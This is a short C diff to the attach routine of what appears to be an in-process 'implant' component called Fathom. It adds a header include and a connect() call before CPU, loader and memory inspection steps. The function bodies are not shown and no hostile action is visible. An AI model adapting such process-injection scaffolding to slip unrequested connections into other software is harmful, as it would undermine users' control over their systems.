@@ -7,6 +7,8 @@
 #ifndef FATHOM_INSIDE_ATTACH_H
 #define FATHOM_INSIDE_ATTACH_H
 
+#include "static.h"
+
 static u64 attach(void)
 {
 	u64 n = text_length(fathom_implant.directory, PATH_MOST);
@@ -29,6 +31,7 @@ static u64 attach(void)
 	if (!a)
 		return ATTACH_NO_ARENA;
 	fathom_attached.arena = (u64)a;
+	connect();
 	find_cpu();
 	follow_loader();
 	look_at_all();
